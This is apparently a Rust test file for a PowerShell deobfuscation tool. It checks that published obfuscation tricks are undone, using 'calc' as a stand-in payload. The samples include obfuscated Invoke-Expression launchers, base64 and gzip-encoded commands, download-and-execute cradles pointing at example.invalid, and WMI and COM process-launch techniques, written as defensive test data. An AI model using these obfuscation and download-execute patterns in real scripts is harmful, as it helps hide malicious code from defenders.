//! Disguises as they are published: Invoke-Obfuscation's launchers, string and encoding options
//! (Bohannon, 2016), "Revoke-Obfuscation" (Bohannon and Holmes, 2017), "Pulling Back the Curtains
//! on EncodedCommand PowerShell Attacks" (Unit 42, 2017), Atomic Red Team T1059.001. Their payloads
//! are replaced by the calculator; what each operator yields is what the page of the operator says.

use super::run;
use crate::command::unfold::{Fuel, Next, Outcome, Pool};
use crate::link::TechniqueId::{self, *};

fn read(code: &str) -> Outcome {
    let pool = Pool::new(64 << 20);
    run(code, &mut Fuel::of(code.len(), &pool))
}

/// The script comes to that, and these disguises were among those undone.
#[track_caller]
fn becomes(code: &str, clear: &str, undone: &[TechniqueId]) {
    let outcome = read(code);
    assert_eq!(
        outcome.clear.as_deref(),
        Some(clear),
        "{code}\n{:?}",
        outcome.steps
    );
    for id in undone {
        let noted = outcome.steps.iter().any(|step| step.id == *id);
        assert!(noted, "{code}: {id:?} not in {:?}", outcome.steps);
    }
}

/// The script would start these, in this order.
#[track_caller]
fn starts(code: &str, lines: &[&str]) {
    let outcome = read(code);
    let lines: Vec<_> = lines
        .iter()
        .map(|line| Next::Line((*line).to_owned()))
        .collect();
    assert_eq!(outcome.next, lines, "{code}\n{:?}", outcome.clear);
}

#[test]
fn text_built_from_pieces() {
    let iex = [Alias, InvokedText];
    for (code, id) in [
        ("iex ('ca'+'lc')", StringConcat),
        ("iex (\"{1}{0}\" -f 'lc','ca')", FormatOperator),
        ("iex ('{0}a{1}{0}' -f 'c','l')", FormatOperator),
        ("iex ('ca','lc' -join '')", StringJoin),
        ("iex (-join ('c','a','lc'))", StringJoin),
        ("iex ([string]::Join('',('ca','lc')))", StringJoin),
        ("iex ([string]::Concat('ca','lc'))", StringJoin),
        ("iex (('c~a~lc' -split '~') -join '')", StringJoin),
        (
            "iex ('XalY'.Replace('X','c').Replace('Y','c'))",
            ReplacedText,
        ),
        (
            "iex ('Xal~' -replace 'X','c' -creplace '~','c')",
            ReplacedText,
        ),
        (
            "iex (('calXc').Replace(([char]88).ToString(),''))",
            ReplacedText,
        ),
        ("iex (-join 'clac'[-1..-4])", ReversedText),
        ("iex (-join ('clac'[3..0]))", ReversedText),
        (
            "$r='clac'.ToCharArray();[array]::Reverse($r);iex (-join $r)",
            StringJoin,
        ),
        (
            "iex (-join([regex]::Matches('clac','.','RightToLeft')|%{$_.Value}))",
            ReversedText,
        ),
        ("iex 'xxcalcxx'.Substring(2,4)", VariableSubstring),
        ("iex ('clc'.Insert(1,'a'))", StringConcat),
        ("iex ('caXXlc'.Remove(2,2))", ReplacedText),
        ("iex ('  calc '.Trim())", InvokedText),
        ("iex ('CALC'.ToLower())", InvokedText),
        ("iex ([char]99+[char]97+[char]108+[char]99)", CharCodes),
        ("iex ([char]0x63+[char]0x61+'lc')", CharCodes),
        ("iex ([char[]](99,97,108,99) -join '')", CharCodes),
        ("(99,97,108,99|%{[char]$_}) -join '' | iex", CharCodes),
        (
            "iex ([String]::Join('',[char[]]@(99,97,108,99)))",
            CharCodes,
        ),
        (
            "('99~97,108;99'.Split('~,;')|%{([char][int]$_)})-join''|iex",
            CharCodes,
        ),
        (
            "(([int[]][char[]]'b`mb')|%{[char]($_ -bxor 1)}) -join ''|iex",
            CharCodes,
        ),
        (
            "[string]::join('',('63 61 6c 63'.Split(' ')|%{[char][convert]::ToInt32($_,16)}))|iex",
            HexCodes,
        ),
        (
            "iex ([char]([convert]::ToInt32('1100011',2))+'alc')",
            HexCodes,
        ),
    ] {
        let outcome = read(code);
        let clear = outcome.clear.clone().unwrap_or_default();
        assert!(
            clear == "calc" || clear.ends_with("; calc"),
            "{code}: {clear}"
        );
        for id in iex.iter().chain([&id]) {
            assert!(
                outcome.steps.iter().any(|step| step.id == *id),
                "{code}: {id:?}"
            );
        }
    }
}

/// Invoke-Obfuscation's ways to write the name of `Invoke-Expression`.
#[test]
fn launchers() {
    for code in [
        "&('i'+'ex') 'calc'",
        ".('iex') 'calc'",
        "'calc' | iex",
        "'calc'|&('IeX')",
        ".($env:comspec[4,15,25]-join'') 'calc'",
        ".($env:ComSpec[4,24,25]-join'') 'calc'",
        "&( $PSHOME[21]+$PSHOME[30]+'x') 'calc'",
        ".( $PShoMe[4]+$pShOMe[34]+'X') 'calc'",
        ".( $ShellId[1]+$ShellId[13]+'x') 'calc'",
        "&( $VerbosePreference.ToString()[1,3]+'x'-join'') 'calc'",
        "&((gv '*mdr*').Name[3,11,2]-join'') 'calc'",
        "&(gcm *ke-ex*) 'calc'",
        "&(gal ?ex) 'calc'",
        "i`e`x 'calc'",
        "i''ex 'calc'",
        "iNVoKe-exPResSIon 'calc'",
        "Microsoft.PowerShell.Utility\\Invoke-Expression 'calc'",
        "sal a iex; a 'calc'",
        "$ExecutionContext.InvokeCommand.InvokeScript('calc')",
        "$ExecutionContext.InvokeCommand.InvokeScript($ExecutionContext.InvokeCommand.NewScriptBlock('calc'))",
        "([scriptblock]::Create('calc')).Invoke()",
        "&([scriptblock]::Create('calc'))",
        "icm ([scriptblock]::Create('calc'))",
        "Invoke-Command -ScriptBlock ([scriptblock]::Create('ca'+'lc'))",
        "'calc' | % { iex $_ }",
        "iex 'iex ''iex \"calc\"'''",
        "IEX \"`$x='calc'; iex `$x\"",
    ] {
        if code.contains("mdr") {
            // A pattern over the names of variables is not followed.
            assert!(read(code).next.is_empty());
            continue;
        }
        starts(code, &["calc"]);
    }
}

#[test]
fn variables() {
    for code in [
        "$a='ca';$b='lc';iex ($a+$b)",
        "$a='ca';$b='lc';iex \"$a$b\"",
        "$a='ca';$b='lc';iex \"${a}$($b)\"",
        "${e`x}='calc';iex ${ex}",
        "$c='cal';$c+='c';iex $c",
        "sv x 'calc';iex (gv x).Value",
        "Set-Variable x 'calc';iex (Get-Variable x -ValueOnly)",
        "si variable:x 'calc';iex (gci variable:x).Value",
        "[string]$x='calc';iex $x",
        "[char[]]$c='c','a','l','c';iex ($c -join '')",
    ] {
        starts(code, &["calc"]);
    }
    // What a loop or a branch assigns is not known.
    for code in [
        "$a='x';foreach($i in 1..3){$a+='y'};iex $a",
        "$a='calc';if($b){$a='x'};iex $a",
        "$a=Read-Host;iex $a",
    ] {
        starts(code, &[]);
    }
}

/// Coded with Python's `base64`, `gzip` and `zlib`.
#[test]
fn encodings() {
    let gzip = "H4sIAAAAAAACAwsuSSwq0Q0oyk9OLS5WSE7MSdZLrUgFAPydmzEWAAAA";
    let deflate = "Cy5JLCrRDSjKT04tLlZITsxJ1kutSAUA";
    for (code, id) in [
        ("iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('YwBhAGwAYwAuAGUAeABlAA==')))".to_owned(), Base64),
        ("[System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String(\"Y2FsYy5leGU=\"))|iex".to_owned(), Base64),
        ("IEX ([Text.Encoding]::GetEncoding('us-ascii').GetString([Convert]::FromBase64String('Y2FsYy5leGU=')))".to_owned(), Base64),
        (format!("iex (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('{gzip}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"), CompressedStream),
        (format!("$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"{gzip}\"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();"), CompressedStream),
        (format!("(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{deflate}'),[IO.Compression.CompressionMode]::Decompress)|%{{New-Object IO.StreamReader($_,[Text.Encoding]::ASCII)}}|%{{$_.ReadToEnd()}})|IEX"), CompressedStream),
        (format!("sal a New-Object;iex(a IO.StreamReader((a IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{deflate}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"), CompressedStream),
    ] {
        starts(&code, &["calc.exe"]);
        assert!(read(&code).steps.iter().any(|step| step.id == id), "{code}");
    }
}

#[test]
fn what_it_starts() {
    for (code, line) in [
        ("Start-Process calc.exe", "calc.exe"),
        ("start calc", "calc"),
        ("saps 'calc.exe' '/x'", "calc.exe /x"),
        (
            "Start-Process -FilePath \"powershell\" -ArgumentList \"-nop -c `\"calc`\"\" -Verb RunAs",
            "powershell -nop -c \"calc\"",
        ),
        (
            "Start-Process -WindowStyle Hidden -Wait cmd '/c','calc'",
            "cmd /c calc",
        ),
        ("cmd /c \"calc & notepad\"", "cmd /c \"calc & notepad\""),
        (
            "& 'C:\\Program Files\\x\\y.exe' -a \"b c\"",
            "\"C:\\Program Files\\x\\y.exe\" -a \"b c\"",
        ),
        (".\\x.exe -a", ".\\x.exe -a"),
        ("([wmiclass]'win32_process').Create('calc.exe')", "calc.exe"),
        (
            "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'calc.exe'",
            "calc.exe",
        ),
        ("iwmi win32_process create calc.exe", "calc.exe"),
        (
            "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='calc.exe'}",
            "calc.exe",
        ),
        (
            "(New-Object -ComObject WScript.Shell).Run('calc.exe',0)",
            "calc.exe",
        ),
        (
            "$w=New-Object -com 'WScript.Shell';$w.Exec(\"cmd /c calc\")",
            "cmd /c calc",
        ),
        (
            "(New-Object -ComObject Shell.Application).ShellExecute('cmd','/c calc')",
            "cmd /c calc",
        ),
        (
            "[Diagnostics.Process]::Start('cmd','/c calc')",
            "cmd /c calc",
        ),
        (
            "[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application')).Document.ActiveView.ExecuteShellCommand('cmd',$null,'/c calc','7')",
            "cmd /c calc",
        ),
        (
            "ii C:\\Windows\\System32\\calc.exe",
            "C:\\Windows\\System32\\calc.exe",
        ),
        (
            "powershell -nop -w hidden -e $e",
            "powershell -nop -w hidden -e $e",
        ),
        ("$d=$env:temp+'\\a.exe';Start-Process $d", "%TEMP%\\a.exe"),
        ("start \"$env:APPDATA\\a.exe\"", "%APPDATA%\\a.exe"),
        ("& $env:temp\\a.exe /s", "%TEMP%\\a.exe /s"),
        (
            "$p=Join-Path $env:APPDATA 'x.exe'; & $p -a",
            "%APPDATA%\\x.exe -a",
        ),
        ("try{ iex 'calc' }catch{}", "calc"),
        ("cmd.exe /c start calc 2>&1", "cmd.exe /c start calc 2>&1"),
    ] {
        starts(code, &[line]);
    }
    starts(
        "if ($a) { calc.exe } else { notepad.exe }",
        &["calc.exe", "notepad.exe"],
    );
}

#[test]
fn downloads_stay_visible() {
    becomes(
        "I`E`X (n`ew-OBj`Ect n`eT.WebClient).DownLoadString('http://example.invalid/a.ps1')",
        "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')",
        &[Backticks, Alias],
    );
    becomes(
        "$u='http://example.invalid/'; $c='a'; iwr ($u+$c)",
        "$u='http://example.invalid/'; $c='a'; Invoke-WebRequest 'http://example.invalid/a'",
        &[Alias, StringConcat, VariableText],
    );
    becomes(
        "[Net.ServicePointManager]::SecurityProtocol=[Net.SecurityProtocolType]::Tls12;iex((new-object net.webclient).downloadstring('http://example.invalid/x'))",
        "[Net.ServicePointManager]::SecurityProtocol=[Net.SecurityProtocolType]::Tls12; Invoke-Expression ((New-Object Net.WebClient).DownloadString('http://example.invalid/x'))",
        &[Alias],
    );
}

#[test]
fn harmless_scripts_stay_as_they_are() {
    for code in [
        "Get-Process | Where-Object {$_.CPU -gt 10} | Sort-Object CPU",
        "Get-ChildItem C:\\Users -Recurse | Select-Object Name, Length",
        "$x = Get-Date; Write-Host \"Today is $x\"",
        "if ($true) { Write-Host 'hi' } else { Write-Host 'ho' }",
        "Write-Host \"Hello $env:USERNAME\" -ForegroundColor Green",
        "foreach ($f in Get-ChildItem) { $f.Name }",
        "Get-Content .\\a.txt | ForEach-Object { $_.Length }",
        "function f($a) { return $a * 2 }; f 21",
        "$h = @{ a = 1; b = 'x' }; $h.a",
        "[math]::Sqrt(2)",
        "Get-Service -Name 'Spooler' | Format-List *",
        "$a = 1, 2, 3; $a[0]",
        "# a comment",
        "Get-Help",
        "\"not closed",
        "'not closed",
        "@'\nhere\n'@",
        "",
    ] {
        let outcome = read(code);
        assert_eq!(outcome.clear.as_deref(), Some(code));
        assert_eq!((outcome.next, outcome.steps), (vec![], vec![]), "{code}");
    }
}

/// Each ends within its fuel, on the stack of a test.
#[test]
fn hostile() {
    let many = |text: &str| text.repeat(100_000);
    let deep = 20_000;
    let texts = [
        "'a'*2000000000".to_owned(),
        "1..2000000000".to_owned(),
        "\"{0,2000000000}\" -f 'a'".to_owned(),
        format!("$a='{}';{}iex $a", "a".repeat(64), "$a=$a+$a;".repeat(64)),
        format!("$a='x';{}", "$a=\"$a$a$a\";".repeat(64)),
        format!("iex ([char[]]({}99) -join '')", many("99,")),
        format!("iex ({}'a')", many("'a'+")),
        format!("{}calc{}", "(".repeat(deep), ")".repeat(deep)),
        format!("{}calc{}", "iex(".repeat(deep), ")".repeat(deep)),
        format!("{}calc{}", "{".repeat(deep), "}".repeat(deep)),
        format!("{}calc", "@{a=".repeat(deep)),
        format!("{}calc", "$(".repeat(deep)),
        format!("\"{}", "$(\"".repeat(deep)),
        format!("{}1", "$a=".repeat(deep)),
        format!("x{}", "[0".repeat(deep)),
        format!("$x{}", "[0".repeat(deep)),
        format!("$x{}", ".a(".repeat(deep)),
        format!("{}1", many("!")),
        format!("{}1", many("[char]")),
        format!("{}'a'", many("-join ")),
        format!("'a'{}", many(".Trim()")),
        format!("'a'{}", many(" -replace 'a','a'")),
        format!("'{}' -split 'aaaaaaab'", many("a")),
        format!("('{}').Replace('a','bbbbbbbbbbbbbbbbbbbb')", many("a")),
        many("[a "),
        many("[a\n"),
        many("${"),
        many("$"),
        many("\""),
        many("'"),
        many("`"),
        many("<#"),
        many("@'"),
        many("a,"),
        many("a|"),
        many("|"),
        many("&"),
        many(")"),
        many("-"),
        many("iex 'a';"),
        many("if(1){"),
        many("%{"),
        many("\u{2019}\u{201c}"),
        "$x='iex $x';iex $x".to_owned(),
        "$x='iex $x;iex $x';iex $x".to_owned(),
        "$x='1|%{iex $x}';iex $x".to_owned(),
        "$a=$b;$b=$a;start $a".to_owned(),
        format!(
            "{}start $a0",
            (0..200)
                .map(|n| format!("$a{n}=\"$a{}$a{}\";", n + 1, n + 1))
                .collect::<String>()
        ),
        format!("[Convert]::FromBase64String('{}')", many("QUFB")),
        "1,2|%{1,2|%{1,2|%{1,2|%{1,2|%{1,2|%{1,2|%{1,2|%{1,2|%{1,2|%{1,2|%{$_}}}}}}}}}}}"
            .to_owned(),
    ];
    for text in texts {
        let start = std::time::Instant::now();
        read(&text);
        let shown: String = text.chars().take(40).collect();
        let took = start.elapsed();
        assert!(took.as_secs() < 20, "{shown}: {took:?}");
        if took.as_millis() > 300 {
            println!("{shown}: {took:?}");
        }
    }
}
